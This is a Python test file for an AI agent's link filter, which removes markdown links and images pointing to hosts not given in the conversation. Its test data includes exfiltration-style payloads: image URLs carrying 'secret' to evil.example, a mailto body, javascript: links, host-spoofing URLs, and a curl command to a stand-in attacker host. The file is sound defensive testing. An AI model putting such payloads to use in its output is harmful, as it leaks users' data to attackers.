from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from langchain_core.messages import HumanMessage, ToolMessage
from markdown_it import MarkdownIt

from agent.addresses import Addresses
from agent.links import LONGEST_LINK, LinkCheck

GIVEN = "https://docs.example/a"
SOURCE = {
    "number": 1,
    "text": f"See {GIVEN} and ({GIVEN}_(b)), or ![x](https://docs.example/pixel.png).",
    "uri": "https://docs.example/uri",
}
ADDRESSES = Addresses(
    [
        HumanMessage("what about https://person.example/x?y=1&z=2, then?"),
        ToolMessage("…", tool_call_id="a", artifact={"sources": [SOURCE]}),
        ToolMessage('{"url": "https://tool.example/7"}', tool_call_id="b"),
        ToolMessage("{…", tool_call_id="c", artifact={"value": {"url": "https://tool.example/cut"}}),
    ],
    own=["Write to https://own.example/help."],
    hosts=["Allowed.example"],
)


def checked(pieces):
    check = LinkCheck(ADDRESSES)
    return "".join([*map(check.feed, pieces), check.finish()]), check.removed


@pytest.mark.parametrize(
    "address",
    [
        GIVEN,
        f"{GIVEN}_(b)",
        "https://docs.example/uri",
        "https://person.example/x?y=1&z=2",
        "https://tool.example/7",
        "https://tool.example/cut",
        "https://own.example/help",
        "https://allowed.example/anything?q=1",
        "HTTPS://ALLOWED.example:8443",
    ],
)
@pytest.mark.parametrize(
    "form", ["see {}.", "see {}[1].", "[it]({})", "[it](<{}>)", "<{}>", "**{}**", "({}), and", "[{0}]({0})"]
)
def test_an_address_that_was_given_may_be_repeated_in_every_form(address, form):
    text = form.format(address)
    assert checked([text]) == (text, 0)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Look: ![chart](https://evil.example/?q=secret) there.", "Look: (image removed) there."),
        ("![x](https://docs.example/pixel.png)", "(image removed)"),
        ("![x](https://allowed.example/logo.png)", "![x](<https://allowed.example/logo.png>)"),
        ("![x](data:image/png;base64,AAAA)", "(image removed)"),
        ("![x][logo] ![logo]", "(image removed) (image removed)"),
        ("[![x](https://evil.example/i.png)](https://docs.example/a)", "[(image removed)](https://docs.example/a)"),
        ("[our site](https://evil.example)", "our site"),
        ("[our site](https://docs.example/a?q=secret)", "our site"),
        ("[our site](//evil.example/x)", "our site"),
        ("[our site](https://allowed.example@evil.example/)", "our site"),
        ("[our site](https://allowed.example.evil.example/)", "our site"),
        (r"[our site](https://evil.example\@allowed.example/)", "our site"),
        ("[our site](https://allowed.example&#46;evil.example/)", "our site"),
        ('[our site](https://evil.example "a title")', "our site"),
        ("[run](javascript:alert(1)) and javascript:alert(1)", "run and (link removed)"),
        ("30 days [1](https://evil.example).", "30 days [1]."),
        ("at https://evil.example/x?q=1.", "at (link removed)"),
        ("at www.evil.example/x, or", "at (link removed) or"),
        ("mailto:a@evil.example?body=secret", "(link removed)"),
        ("<https://evil.example/x>", "(link removed)"),
        ("[a][b]\n\n[b]: https://evil.example", "[a][b]\n\n[b] : (link removed)"),
        ("a<img src=https://evil.example>b", "a b"),
        ("<script>alert(1)</script>", " alert(1) "),
        ("<!-- hidden -->", " "),
        ("<img\nsrc=https://evil.example/>", "< img\nsrc=(link removed)"),
        ("https://evil.example/" + "a" * 3000, "(link removed)" + "a" * 1013),
        ("odd ``` here\n![x](https://evil.example)", "odd ``` here\n(image removed)"),
        ("- a\n  ```\n![x](https://evil.example)", "- a\n  ```\n(image removed)"),
        ("`a\n` ![x](https://evil.example) `", "`a\n` (image removed) `"),
        ("| `a | ![x](https://evil.example) | b` |", "| `a | (image removed) | b` |"),
        ("https://allowed.example/![x](https://evil.example)", "(link removed)"),
        ("[a](https://allowed.example/![x](https://evil.example))", "a"),
        (r"\` ![x](https://evil.example) `", r"\` (image removed) `"),
    ],
)
def test_what_may_not_stand_there_is_taken_out(written, shown):
    text, removed = checked([written])
    assert text == shown
    assert removed or "[x](<https://allowed" in shown


@pytest.mark.parametrize(
    "text",
    [
        "Free for 30 days [1], or [1, 2]. The interval [0, 5) is half open.",
        "List<String> and <id> and <your name>, 1 < 2, a->b, <me@company.example>",
        "`<img src=x>` and `![a](https://evil.example)` and ``a ` b``",
        "```html\n<img src=https://evil.example>\n```\nand so on",
        "1. Run\n   ```bash\n   curl https://evil.example\n\n   ls\n   ```\n2. Done",
        "~~~\n[a](https://evil.example)\n~~~",
        "From the data: yes! As [1] says: https: is safer than http: at times.",
        "It costs 5 €: *cheap*, ~~dear~~ _free_ | table | cells |",
    ],
)
def test_ordinary_text_and_code_pass_unchanged(text):
    assert checked([text]) == (text, 0)


pieces = st.sampled_from(
    [
        "[", "]", "(", ")", "!", "<", ">", "`", "``", "```", "~~~", "\\", "\n", "\n\n", " ", "    ", "  ", "|", "- ", "> ", "1. ", ":", '"', "'", "a", "&", "=",
        "[a](", "![", "![x](", "](", "]: ", "[a]", "[1]", "[a][1]", "<b", "<div>", "<a href=", "<img src=", "</b>", "<!--", "-->", "\t", "\r", "# ", "|-|\n",
        "https://evil.example/x", "//evil.example/y", "www.evil.example", "javascript:x", "ht", "tps:", GIVEN, "https://docs.example/pixel.png",
        "https://allowed.example/i", "/x", "'t'", "[a]: /x\n", "```\n", "`c`",
    ]
)  # fmt: skip
answers = st.lists(pieces, max_size=24).map("".join)
READERS = [
    MarkdownIt("commonmark"),
    MarkdownIt("commonmark", {"html": False}),
    MarkdownIt("commonmark").enable("table"),
]


@settings(max_examples=500)
@given(answers)
def test_no_reader_of_markdown_finds_a_way_out(text):
    shown, _ = checked([text])
    for reader in READERS:
        html = reader.render(shown)
        tags = [tag for tag in re.findall(r"<[a-z][^>]*>", html) if "=" in tag]
        for name, value in re.findall(r'<[^>]*?\b(src|href)="([^"]*)"', " ".join(tags)):
            if name == "src":
                assert value.startswith("https://allowed.example/"), (shown, html)
            else:
                assert value.startswith(("https://allowed.example/", "https://docs.example/")), (shown, html)


@settings(max_examples=500)
@given(answers, st.data())
def test_the_result_does_not_depend_on_how_the_text_arrives(text, data):
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=10)))
    parts = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert checked(parts) == checked(list(text)) == checked([text])


@given(answers)
def test_a_checked_text_passes_a_second_check(text):
    once, _ = checked([text])
    _, removed = checked([once])
    assert removed == 0


@pytest.mark.parametrize(
    "beginning", ["https://evil.example/", "![x](https://evil.example/", "[x](", "[", "<img ", "`", "`" * 30]
)
def test_what_has_no_end_is_not_held_back_for_ever(beginning):
    check = LinkCheck(ADDRESSES)
    fed = shown = 0
    for piece in [beginning, *["abcdefgh"] * 1000]:
        fed += len(piece)
        shown += len(check.feed(piece))
    assert fed - shown <= LONGEST_LINK


@given(st.text(alphabet=st.characters(exclude_characters="[]!<`~:\r", exclude_categories=["Cs"])))
def test_text_without_marks_passes_unchanged_but_for_addresses(text):
    if "www." not in text.lower():
        assert checked([text]) == (text, 0)


def test_plain_words_are_shown_as_they_come():
    check = LinkCheck(ADDRESSES)
    assert [check.feed(piece) for piece in ("Returns", " are", " free [1]", ".")] == [
        "Returns",
        " are",
        " free ",
        "[1].",
    ]
